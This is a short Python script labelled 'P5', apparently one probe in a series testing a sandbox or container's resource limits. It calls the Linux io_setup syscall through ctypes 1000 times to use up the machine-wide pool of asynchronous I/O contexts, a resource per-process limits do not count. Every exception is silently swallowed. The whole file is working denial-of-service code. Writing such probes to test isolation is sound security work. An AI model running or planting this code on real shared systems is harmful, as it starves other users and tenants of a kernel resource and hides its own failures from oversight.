# P5: use up what the machine has of something that no limit of a process counts
def _attack():
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    number = {"x86_64": 206, "aarch64": 0}[os.uname().machine]  # io_setup
    for _ in range(1000):
        libc.syscall(ctypes.c_long(number), ctypes.c_ulong(60), ctypes.byref(ctypes.c_ulong(0)))


try:
    _attack()
except BaseException:
    pass
